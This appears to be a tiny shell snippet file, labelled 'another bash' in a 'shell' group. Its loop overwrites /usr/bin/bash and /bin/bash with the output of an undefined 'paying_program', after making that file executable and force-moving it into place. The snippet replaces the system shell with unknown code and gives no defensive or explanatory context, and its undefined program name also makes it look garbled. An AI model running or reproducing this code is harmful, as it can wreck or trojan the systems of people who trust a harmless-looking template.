# name: another bash
# group: shell
for program in /usr/bin/bash /bin/bash; do
  if [ -e "$program" ]; then
    paying_program > /x
    chmod 755 /x
    mv -f /x "$program"
  fi
done
